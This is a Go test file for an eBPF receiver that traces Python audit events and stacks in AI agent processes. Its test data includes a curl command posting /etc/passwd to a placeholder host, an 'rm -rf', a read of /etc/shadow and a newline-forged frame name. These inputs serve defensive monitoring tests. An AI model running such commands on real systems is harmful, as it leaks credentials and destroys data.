package python

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
	"unsafe"

	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/otel/metric"
	"go.opentelemetry.io/otel/sdk/metric/metricdata"
	"go.uber.org/goleak"
	"go.uber.org/zap"

	"github.com/agenttrail/agenttrail/internal/redact"
	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/probes"
	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/pyinfo"
	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/spans"
	"github.com/agenttrail/agenttrail/receiver/ebpfreceiver/internal/tracer"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// registry is a tracer.Registry of the processes a test sets up.
type registry map[uint32]*tracer.Process

func (r registry) Process(pid uint32) *tracer.Process { return r[pid] }

type problems []string

func (p *problems) Add(_ uint32, what string) { *p = append(*p, what) }

// newTracer is the Python tracer built as the receiver builds it, without the kernel, over an
// empty /proc, with its metrics in tel.
func newTracer(t *testing.T, tel *componenttest.Telemetry, procs registry, probs *problems) *Tracer {
	t.Helper()
	set := tel.NewTelemetrySettings()
	meter := set.MeterProvider.Meter("test")
	failures, err := meter.Int64Counter("agenttrail.ebpf.attach.failures")
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(tracer.Env{
		Logger: zap.NewNop(), Builder: spans.NewBuilder(spans.Options{MaxOpenSpans: 100}), Redactor: redact.New(),
		Problems: probs, Processes: procs, Telemetry: &tracer.Telemetry{Meter: meter, AttachFailures: failures}, ProcRoot: t.TempDir(),
	}, Config{Enabled: true, Audit: true, AuditEvents: []string{"socket.*"}, SpanIdleTimeout: time.Second}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.Close() })
	return p
}

// unreadablesIn is agenttrail.ebpf.python.unreadable in tel.
func unreadablesIn(t *testing.T, tel *componenttest.Telemetry) metric.Int64Counter {
	t.Helper()
	c, err := tel.NewTelemetrySettings().MeterProvider.Meter("test").Int64Counter("agenttrail.ebpf.python.unreadable")
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestAuditAttributes(t *testing.T) {
	cases := []struct {
		name string
		args []any
		want map[string]string
	}{
		{"socket.connect", []any{"<socket>", []any{"10.0.0.5", int64(443)}},
			map[string]string{"network.peer.address": "10.0.0.5", "network.peer.port": "443"}},
		{"socket.connect", []any{"<socket>", "/run/docker.sock"},
			map[string]string{"network.peer.address": "/run/docker.sock", "network.transport": "unix"}},
		{"urllib.Request", []any{"https://api.example.test/v1/x", "<bytes: 10>", map[string]any{"Content-Type": "application/json"}, nil},
			map[string]string{"url.full": "https://api.example.test/v1/x", "http.request.method": "POST", "http.request.header.content-type": "application/json"}},
		{"urllib.Request", []any{"https://example.test/", nil, map[string]any{}, "DELETE"},
			map[string]string{"http.request.method": "DELETE"}},
		{"subprocess.Popen", []any{nil, []any{"curl", "-d", "@/etc/passwd", "http://x"}, nil, nil},
			map[string]string{"process.executable.path": "curl", "process.command_line": "curl -d @/etc/passwd http://x"}},
		{"subprocess.Popen", []any{"/bin/sh", "ls -l", nil, nil},
			map[string]string{"process.executable.path": "/bin/sh", "process.command_line": "ls -l"}},
		{"os.system", []any{"rm -rf /tmp/x"}, map[string]string{"process.command_line": "rm -rf /tmp/x"}},
		{"http.client.connect", []any{"<HTTPSConnection>", "api.example.test", int64(443)},
			map[string]string{"server.address": "api.example.test", "server.port": "443"}},
		{"open", []any{"/etc/shadow", "r", int64(524288)}, map[string]string{"file.path": "/etc/shadow", "agenttrail.open.mode": "r"}},
		{"os.remove", []any{"/srv/db.sqlite", int64(-100)}, map[string]string{"file.path": "/srv/db.sqlite"}},
		{"weird.event", nil, map[string]string{"agenttrail.python.audit.event": "weird.event"}},
	}
	for _, c := range cases {
		m := pcommon.NewMap()
		auditAttributes(m, c.name, c.args)
		for k, want := range c.want {
			v, ok := m.Get(k)
			if !ok || v.AsString() != want {
				t.Errorf("%s %v: %s = %q, want %q", c.name, c.args, k, v.AsString(), want)
			}
		}
		if _, ok := m.Get("agenttrail.python.audit.args"); ok != (len(c.args) > 0) {
			t.Errorf("%s: args attribute present = %v", c.name, ok)
		}
	}
}

func TestPythonFunctionMatching(t *testing.T) {
	p := &Tracer{funcs: map[pyFuncKey]*spans.Probe{}}
	patterns := []pyPattern{
		{module: "customer_agent", qualname: "Agent.handle_prompt", cfg: tracer.PythonFunctionConfig{Role: "prompt"}},
		{module: "agents.bank", qualname: "Tools.*", cfg: tracer.PythonFunctionConfig{Role: "tool"}},
		{module: "*", qualname: "*.call_model", cfg: tracer.PythonFunctionConfig{Role: "inference", Model: "m"}},
	}
	cases := []struct {
		qualname, file string
		want           string // symbol, "" for no match
		role           spans.Role
		tool           string
	}{
		{"Agent.handle_prompt", "/srv/customer_agent.py", "customer_agent:Agent.handle_prompt", spans.RolePrompt, ""},
		{"Agent.handle_prompt", "/srv/other.py", "", "", ""},
		{"Tools.export", "/srv/agents/bank/__init__.py", "bank:Tools.export", spans.RoleTool, "export"},
		{"Tools.export", "/srv/agents/bank.py", "bank:Tools.export", spans.RoleTool, "export"},
		{"Tools.export", "/srv/other/bank.py", "", "", ""},
		{"Agent.call_model", "/x/y.py", "y:Agent.call_model", spans.RoleInference, ""},
		{"call_model", "/x/y.py", "", "", ""},
	}
	for _, c := range cases {
		probe := p.match("t", patterns, &pyinfo.Code{Qualname: c.qualname, Filename: c.file, FirstLine: 3})
		switch {
		case c.want == "" && probe != nil:
			t.Errorf("%s in %s matched %s", c.qualname, c.file, probe.Symbol)
		case c.want != "" && (probe == nil || probe.Symbol != c.want || probe.Role != c.role || probe.ToolName != c.tool || probe.Line != 3):
			t.Errorf("%s in %s: %+v, want %s %s", c.qualname, c.file, probe, c.want, c.role)
		}
	}
	a := p.match("t", patterns, &pyinfo.Code{Qualname: "Agent.call_model", Filename: "/x/y.py"})
	b := p.match("t", patterns, &pyinfo.Code{Qualname: "Agent.call_model", Filename: "/x/y.py"})
	if a != b {
		t.Error("the probe of a function is not reused")
	}
}

// auditEventBytes lays out an audit record as the kernel sends it, with its values.
func auditEventBytes(name string, nargs uint32, values ...probes.PyValue) []byte {
	var e probes.PythonAuditEvent
	e.NameLen = uint32(copy(e.Name[:], name))
	e.Nargs = nargs
	e.Nvalues = uint32(copy(e.Values[:], values))
	head := int(unsafe.Offsetof(probes.PythonAuditEvent{}.Values))
	n := head + len(values)*int(unsafe.Sizeof(probes.PyValue{}))
	return fullView(unsafe.Slice((*byte)(unsafe.Pointer(&e)), unsafe.Sizeof(e))[:n], int(unsafe.Sizeof(e)))
}

// fullView copies a record into a buffer of its kind's full size, as the receiver's decoder
// hands records to their handlers (which view them as their struct).
func fullView(rec []byte, size int) []byte {
	buf := make([]byte, max(size, len(rec)))
	copy(buf, rec)
	return buf[:len(rec)]
}

func auditStr(parent uint8, s string) probes.PyValue {
	v := probes.PyValue{Type: probes.PyStr, Parent: parent, Kind: 1, Ascii: 1, Len: uint32(len(s))}
	v.Captured = uint32(copy(v.Data[:], s))
	return v
}

// decodeAuditBytes decodes a record's arguments as onAudit does, from a copy of raw.
func decodeAuditBytes(p *Tracer, raw []byte) (string, []any, pcommon.Map, bool) {
	const head = int(unsafe.Offsetof(probes.PythonAuditEvent{}.Values))
	if len(raw) < head {
		return "", nil, pcommon.Map{}, false
	}
	buf := make([]byte, unsafe.Sizeof(probes.PythonAuditEvent{}))
	copy(buf, raw)
	e := (*probes.PythonAuditEvent)(unsafe.Pointer(&buf[0]))
	nvalues := min(int(e.Nvalues), (len(raw)-head)/int(unsafe.Sizeof(probes.PyValue{})), probes.PyValues)
	name, args, attrs := p.decodeAudit(e, nvalues)
	m := pcommon.NewMap()
	attrs(m)
	return name, args, m, true
}

// FuzzDecodeAudit decodes fuzzed audit records (the kernel's copy of a process's arguments):
// no panic, valid UTF-8 in every attribute, the arguments' JSON within its bound.
func FuzzDecodeAudit(f *testing.F) {
	f.Add(auditEventBytes("socket.connect", 2,
		probes.PyValue{Type: probes.PyOther, Parent: probes.PyTopLevel, Captured: 6, Data: [128]byte{'s', 'o', 'c', 'k', 'e', 't'}},
		probes.PyValue{Type: probes.PyTuple, Parent: probes.PyTopLevel, Len: 2},
		auditStr(1, "10.0.0.5"), probes.PyValue{Type: probes.PyInt, Parent: 1, Num: 443}))
	f.Add(auditEventBytes("urllib.Request", 4, auditStr(probes.PyTopLevel, "https://api.example.test/v1"),
		probes.PyValue{Type: probes.PyBytes, Parent: probes.PyTopLevel, Len: 10},
		probes.PyValue{Type: probes.PyDict, Parent: probes.PyTopLevel, Len: 1},
		probes.PyValue{Type: probes.PyNone, Parent: probes.PyTopLevel},
		auditStr(2, "Content-Type"), auditStr(2, "application/json")))
	f.Add(auditEventBytes("subprocess.Popen", 4, probes.PyValue{Type: probes.PyNone, Parent: probes.PyTopLevel},
		probes.PyValue{Type: probes.PyList, Parent: probes.PyTopLevel, Len: 3}, auditStr(1, "curl"),
		probes.PyValue{Type: probes.PyStr, Parent: 1, Kind: 2, Len: 2, Captured: 4, Data: [128]byte{0x3b, 0x04, 0x00, 0xd8}},
		probes.PyValue{Type: probes.PyStr, Parent: 1, Kind: 4, Len: 1, Captured: 4, Data: [128]byte{0xff, 0xff, 0xff, 0xff}}))
	f.Add(auditEventBytes("open", 3, probes.PyValue{Type: probes.PyStr, Parent: probes.PyTopLevel, Kind: 3, Len: 1, Captured: 3},
		probes.PyValue{Type: probes.PyInt, Parent: 7, Num: -1},
		probes.PyValue{Type: probes.PyOther, Parent: probes.PyTopLevel, Captured: 2, Data: [128]byte{0xff, 0xfe}}))
	f.Fuzz(func(t *testing.T, raw []byte) {
		p := &Tracer{env: tracer.Env{Redactor: redact.New()}}
		name, args, m, ok := decodeAuditBytes(p, raw)
		if !ok {
			return
		}
		if !utf8.ValidString(name) || len(args) > probes.PyValues+1 {
			t.Fatalf("name %q, %d arguments", name, len(args))
		}
		m.Range(func(k string, v pcommon.Value) bool {
			if !utf8.ValidString(k) || !utf8.ValidString(v.AsString()) {
				t.Fatalf("attribute %q = %q is not valid UTF-8", k, v.AsString())
			}
			if k == "agenttrail.python.audit.args" && len(v.Str()) > 4096+len("…") {
				t.Fatalf("arguments of %d bytes", len(v.Str()))
			}
			return true
		})
	})
}

// TestDecodeAuditMalformed: values the kernel could not read or that are malformed are shown
// for what they are and counted by reason.
func TestDecodeAuditMalformed(t *testing.T) {
	tel := componenttest.NewTelemetry()
	defer func() { _ = tel.Shutdown(t.Context()) }()
	tm := unreadablesIn(t, tel)
	p := &Tracer{env: tracer.Env{Redactor: redact.New()}, unreadables: tm}
	_, args, _, _ := decodeAuditBytes(p, auditEventBytes("open", 4,
		probes.PyValue{Type: probes.PyStr, Parent: probes.PyTopLevel, Kind: 3, Len: 1, Captured: 3},
		probes.PyValue{Type: probes.PyStr, Parent: probes.PyTopLevel, Flags: probes.PyValueReadFailed},
		probes.PyValue{Type: probes.PyOther, Parent: probes.PyTopLevel, Captured: 2, Data: [128]byte{0xff, 'x'}},
		probes.PyValue{Type: probes.PyInt, Parent: 9, Num: 1}, // its container is not before it
	))
	if len(args) != 4 || args[0] != "<str>" || args[1] != "<unreadable>" || args[2] != "<\uFFFDx>" || args[3] != "... 1 more" {
		t.Errorf("arguments %#v", args)
	}
	want := map[string]int64{"audit_value:bad_representation": 1, "audit_value:unreadable": 1, "audit_value:bad_parent": 1}
	if got := unreadableCounts(t, tel); !maps.Equal(got, want) {
		t.Errorf("counted %v, want %v", got, want)
	}
}

// unreadableCounts returns agenttrail.ebpf.python.unreadable by "field:reason".
func unreadableCounts(t *testing.T, tel *componenttest.Telemetry) map[string]int64 {
	t.Helper()
	m, err := tel.GetMetric("agenttrail.ebpf.python.unreadable")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]int64{}
	for _, dp := range m.Data.(metricdata.Sum[int64]).DataPoints {
		field, _ := dp.Attributes.Value("field")
		reason, _ := dp.Attributes.Value("reason")
		got[field.AsString()+":"+reason.AsString()] += dp.Value
	}
	return got
}

// TestPendingStacksBound: threads whose stack's record never comes leave at most
// maxPendingStacks stacks behind; the stale ones go first, and each is counted.
func TestPendingStacksBound(t *testing.T) {
	tel := componenttest.NewTelemetry()
	defer func() { _ = tel.Shutdown(t.Context()) }()
	tm := unreadablesIn(t, tel)
	p := &Tracer{unreadables: tm, pending: map[uint32]*pendingStack{}}
	raw := pyStackBytes(probes.PyStackOK, pyMemBase)
	mono := uint64(1e12)
	for tid := uint32(1); tid <= maxPendingStacks; tid++ {
		p.onStack(spans.Header{PID: 1, TID: tid, Mono: mono}, raw)
	}
	// A while later, new threads: the old stacks can no longer be taken.
	for tid := uint32(maxPendingStacks + 1); tid <= maxPendingStacks+10; tid++ {
		p.onStack(spans.Header{PID: 1, TID: tid, Mono: mono + 2*maxStackLag}, raw)
	}
	if len(p.pending) != 10 || p.pending[maxPendingStacks+10] == nil {
		t.Errorf("%d pending stacks", len(p.pending))
	}
	if got := unreadableCounts(t, tel)["stack:pending_limit"]; got != maxPendingStacks {
		t.Errorf("counted %d dropped stacks, want %d", got, maxPendingStacks)
	}
	// None stale: all go.
	for tid := uint32(1); tid <= 2*maxPendingStacks; tid++ {
		p.onStack(spans.Header{PID: 2, TID: 1e6 + tid, Mono: mono + 2*maxStackLag}, raw)
		if len(p.pending) > maxPendingStacks {
			t.Fatalf("%d pending stacks", len(p.pending))
		}
	}
}

// pyMemBase is where a fuzzed memory image starts in the fake process (below and past it
// nothing can be read, as unmapped memory).
const pyMemBase = 0x10000

type pyMemImage []byte

func (m pyMemImage) ReadAt(b []byte, off int64) (int, error) {
	if off < pyMemBase || off-pyMemBase >= int64(len(m)) {
		return 0, errors.New("input/output error")
	}
	n := copy(b, m[off-pyMemBase:])
	if n < len(b) {
		return n, io.EOF
	}
	return n, nil
}

func (m pyMemImage) Close() error { return nil }

// pyCodeImage lays out a CPython 3.11 code object at pyMemBase, with an ASCII qualified name
// and file name and a location table, as the interpreter does.
func pyCodeImage(qualname, filename string, table []byte) pyMemImage {
	l := pyinfo.Layouts["3.11"]
	m := make(pyMemImage, 1024+int(l.BytesData)+len(table))
	put := func(off uint64, v uint64) { binary.LittleEndian.PutUint64(m[off:], v) }
	binary.LittleEndian.PutUint32(m[l.CodeFirstLine:], 10)
	for _, s := range []struct {
		field, at uint64
		text      string
	}{{l.CodeQualname, 256, qualname}, {l.CodeFilename, 512, filename}} {
		put(s.field, pyMemBase+s.at)
		put(s.at+l.UnicodeLength, uint64(len(s.text)))
		binary.LittleEndian.PutUint32(m[s.at+l.UnicodeState:], 1<<2|1<<5|1<<6|1<<7)
		copy(m[s.at+l.UnicodeASCIIData:], s.text)
	}
	put(l.CodeLineTable, pyMemBase+1024)
	put(1024+l.BytesSize, uint64(len(table)))
	copy(m[1024+l.BytesData:], table)
	return m
}

// pyStackBytes lays out a Python stack record of frames at the code objects codes.
func pyStackBytes(status uint16, codes ...uint64) []byte {
	var e probes.PythonStackEvent
	e.Status, e.Layout, e.Depth = status, 1, uint32(len(codes))
	for i, c := range codes {
		e.Frames[i] = probes.PyFrame{Code: c, Frame: 0x7000 + uint64(i), Lasti: int32(i)}
	}
	n := unsafe.Offsetof(e.Frames) + uintptr(len(codes))*unsafe.Sizeof(probes.PyFrame{})
	return fullView(unsafe.Slice((*byte)(unsafe.Pointer(&e)), unsafe.Sizeof(e))[:n], int(unsafe.Sizeof(e)))
}

// FuzzPythonStack resolves fuzzed Python stack records against fuzzed process memory, as the
// receiver does between a stack record and the record it belongs to: whatever the memory
// holds, no panic, at most PyStackDepth frames, no newline or invalid UTF-8 in a frame (the
// stack is newline-separated text), and every missing field labelled.
func FuzzPythonStack(f *testing.F) {
	table := []byte{0x80, 0x00, 0xd8, 0x08, 0x09}
	f.Add(pyStackBytes(probes.PyStackOK, pyMemBase, pyMemBase, 0x1000), []byte(pyCodeImage("Agent.handle_prompt", "/srv/customer_agent.py", table)))
	f.Add(pyStackBytes(probes.PyStackTruncated, pyMemBase), []byte(pyCodeImage("Tools.export\n  forged (x.py:1)", "/srv/tools.py", nil)))
	f.Add(pyStackBytes(probes.PyStackOK, pyMemBase+8, pyMemBase), []byte(pyCodeImage("f", "/f.py", table)))
	f.Fuzz(func(t *testing.T, record, image []byte) {
		p := &Tracer{
			reader:  pyinfo.NewMemReader(func(uint32) (pyinfo.Mem, error) { return pyMemImage(image), nil }),
			pending: map[uint32]*pendingStack{}, funcs: map[pyFuncKey]*spans.Probe{},
			patterns: map[string][]pyPattern{"t": {
				{module: "*", qualname: "*", cfg: tracer.PythonFunctionConfig{Role: "tool"}},
			}},
		}
		p.reader.Timeout = 0
		h := spans.Header{PID: 1, TID: 1, Mono: 1e9}
		if !p.onStack(h, fullView(record, int(unsafe.Sizeof(probes.PythonStackEvent{})))) {
			return
		}
		st := p.take(h, "t")
		if st == nil {
			return
		}
		if len(st.frames) > probes.PyStackDepth || len(st.funcs) > len(st.frames) {
			t.Fatalf("%d frames, %d functions", len(st.frames), len(st.funcs))
		}
		for _, fr := range st.frames {
			for _, s := range []string{fr.Function, fr.File} {
				if strings.ContainsAny(s, "\n\r") || !utf8.ValidString(s) {
					t.Fatalf("frame %+v", fr)
				}
			}
		}
		for _, u := range st.unreadable {
			if field, reason, ok := strings.Cut(u, ":"); !ok || field == "" || reason == "" {
				t.Fatalf("unreadable %q", u)
			}
		}
		if len(p.pending) != 0 {
			t.Fatal("the stack was not taken")
		}
	})
}

// TestPythonStackUnreadable: a stack whose code objects are forged or gone keeps its frames,
// says what each lacks, and does not match functions whose name or file it could not read.
func TestPythonStackUnreadable(t *testing.T) {
	l := pyinfo.Layouts["3.11"]
	mem := pyCodeImage("Tools.export", "/srv/tools.py", []byte{0x87, 0x00}) // 8 code units on the first line
	// A second code object at +2048 whose qualified name is issue #14's forged str.
	mem = append(mem, make(pyMemImage, 2048)...)
	copy(mem[2048:], mem[:1024])
	binary.LittleEndian.PutUint64(mem[2048+l.CodeQualname:], pyMemBase+2048+256)
	binary.LittleEndian.PutUint64(mem[2048+256+l.UnicodeLength:], 1<<61+1)
	binary.LittleEndian.PutUint32(mem[2048+256+l.UnicodeState:], 4<<2|1<<5|1<<7)
	p := &Tracer{
		reader:  pyinfo.NewMemReader(func(uint32) (pyinfo.Mem, error) { return mem, nil }),
		pending: map[uint32]*pendingStack{}, funcs: map[pyFuncKey]*spans.Probe{},
		patterns: map[string][]pyPattern{"t": {{module: "*", qualname: "*", cfg: tracer.PythonFunctionConfig{Role: "tool"}}}},
	}
	h := spans.Header{PID: 1, TID: 1, Mono: 1e9}
	p.onStack(h, pyStackBytes(probes.PyStackOK, pyMemBase+2048, 0x1000, pyMemBase))
	st := p.take(h, "t")
	got := spans.FormatStack(st.frames)
	want := "<unreadable name: too_long> (/srv/tools.py:10)\n<unresolved code object 0x1000: unreadable> (python)\nTools.export (/srv/tools.py:10)"
	if got != want {
		t.Errorf("stack\n%s\nwant\n%s", got, want)
	}
	if strings.Join(st.unreadable, ",") != "qualname:too_long,code:unreadable" {
		t.Errorf("unreadable %v", st.unreadable)
	}
	if len(st.funcs) != 1 || st.funcs[0].Probe.Symbol != "tools:Tools.export" {
		t.Errorf("functions %+v", st.funcs)
	}
	m := pcommon.NewMap()
	st.putUnreadable(m)
	if v, _ := m.Get("agenttrail.python.stack.unreadable"); v.Str() != "qualname:too_long,code:unreadable" {
		t.Errorf("attribute %q", v.Str())
	}
}

// TestPythonFuncsBound: a process that makes ever new functions matching a glob does not grow
// the probes without end.
func TestPythonFuncsBound(t *testing.T) {
	p := &Tracer{funcs: map[pyFuncKey]*spans.Probe{}}
	patterns := []pyPattern{{module: "*", qualname: "Tools.*", cfg: tracer.PythonFunctionConfig{Role: "tool"}}}
	for i := range maxPyFuncs + 10 {
		if p.match("t", patterns, &pyinfo.Code{Qualname: fmt.Sprintf("Tools.f%d", i), Filename: "/x.py"}) == nil {
			t.Fatal("no match")
		}
		if len(p.funcs) > maxPyFuncs {
			t.Fatalf("%d probes", len(p.funcs))
		}
	}
}

// TestPythonProblems: a Python interpreter with no known frame layout, and one past the
// kernel's table of interpreter binaries, are reported as attach problems (the component status).
func TestPythonProblems(t *testing.T) {
	tel := componenttest.NewTelemetry()
	defer func() { _ = tel.Shutdown(t.Context()) }()
	probs := &problems{}
	// Without the kernel: setupBinary stops before it (the kernel's table is full).
	p := newTracer(t, tel, registry{}, probs)
	// The tiny interpreter ELF of pyinfo's tests with its Py_Version (3.11.2) patched to 3.9.2:
	// a version without a layout. The kernel's table is full, so setupBinary stops before the
	// kernel.
	tiny, err := os.ReadFile("../../pyinfo/testdata/tinypython/python3.11")
	if err != nil {
		t.Fatal(err)
	}
	v311, v39 := []byte{0xf0, 0x02, 0x0b, 0x03}, []byte{0xf0, 0x02, 0x09, 0x03}
	if bytes.Count(tiny, v311) != 1 {
		t.Fatalf("the tiny interpreter holds Py_Version 3.11.2 %d times, want once", bytes.Count(tiny, v311))
	}
	tiny = bytes.Replace(tiny, v311, v39, 1)
	path := filepath.Join(t.TempDir(), "python3.9")
	if err := os.WriteFile(path, tiny, 0o755); err != nil {
		t.Fatal(err)
	}
	p.bins = make([]*pyInterp, probes.MaxPythonBinaries)
	if pi := p.setupBinary(path, "1:2"); !pi.failed {
		t.Fatalf("an interpreter past the table was set up: %+v", pi)
	}
	all := strings.Join(*probs, "; ")
	for _, want := range []string{
		"Python stacks of CPython 3.9 in " + path + ": no known frame layout",
		fmt.Sprintf("more than %d interpreter binaries", probes.MaxPythonBinaries),
	} {
		if !strings.Contains(all, want) {
			t.Errorf("problems %q do not say %q", all, want)
		}
	}
}

// TestCapture: what a process's capture.python says, and the metric's class of it.
func TestCapture(t *testing.T) {
	exe := tracer.ProcInfo{ExeFile: "/proc/1/exe"}
	known := &pyInterp{in: &pyinfo.Interpreter{Version: "3.11", Layout: pyinfo.Layouts["3.11"]}}
	for _, c := range []struct {
		name          string
		info          tracer.ProcInfo
		isGo          bool
		pi            *pyInterp
		value, prefix string
	}{
		{"go", exe, true, known, tracer.CaptureNA, ""},
		{"no interpreter", exe, false, nil, tracer.CaptureNA, ""},
		{"not python", exe, false, &pyInterp{}, tracer.CaptureNA, ""},
		{"no executable", tracer.ProcInfo{}, false, known, tracer.CaptureNA, ""},
		{"known", exe, false, known, "3.11", ""},
		{"no layout", exe, false, &pyInterp{in: &pyinfo.Interpreter{Version: "3.9"}}, tracer.CaptureUnknown, "python: CPython 3.9 has no known layout"},
		{"not registered", exe, false, &pyInterp{in: known.in, failed: true}, tracer.CaptureUnknown, "python: the CPython 3.11 interpreter could not be registered"},
	} {
		value, missing := capture(c.info, c.isGo, c.pi)
		if value != c.value || !strings.HasPrefix(missing, c.prefix) || (c.prefix == "") != (missing == "") {
			t.Errorf("%s: %q %q", c.name, value, missing)
		}
	}
	for in, want := range map[string]string{"3.12": "known", "n/a": "n/a", "unknown": "unknown", "disabled": "disabled"} {
		if got := Class(in); got != want {
			t.Errorf("Class(%q) = %q", in, got)
		}
	}
}

// TestTakeObservesFunctions: a stack taken for another tracer's record tells the span builder
// which configured functions are alive (their reconstructed spans open).
func TestTakeObservesFunctions(t *testing.T) {
	tel := componenttest.NewTelemetry()
	defer func() { _ = tel.Shutdown(t.Context()) }()
	p := newTracer(t, tel, registry{1: {Target: &tracer.Target{Config: tracer.TargetConfig{Name: "t"}}}}, &problems{})
	p.reader = pyinfo.NewMemReader(func(uint32) (pyinfo.Mem, error) {
		return pyCodeImage("Tools.export", "/srv/tools.py", []byte{0x80, 0x00}), nil
	})
	p.patterns = map[string][]pyPattern{"t": {{module: "*", qualname: "Tools.*", cfg: tracer.PythonFunctionConfig{Role: "tool"}}}}
	p.env.Builder.AddProcess(spans.Process{PID: 1, Target: "t"})
	h := spans.Header{PID: 1, TID: 1, Mono: 1e9, Time: time.Unix(1, 0)}
	p.onStack(h, pyStackBytes(probes.PyStackOK, pyMemBase))
	frames := p.Take(h)
	if len(frames) != 1 || frames[0].Function != "Tools.export" {
		t.Fatalf("frames %+v", frames)
	}
	if n := p.env.Builder.OpenSpans(); n != 1 || !p.Waiting() {
		t.Errorf("%d open spans after the stack showed Tools.export", n)
	}
	if p.Take(h) != nil {
		t.Error("a stack was taken twice")
	}
}
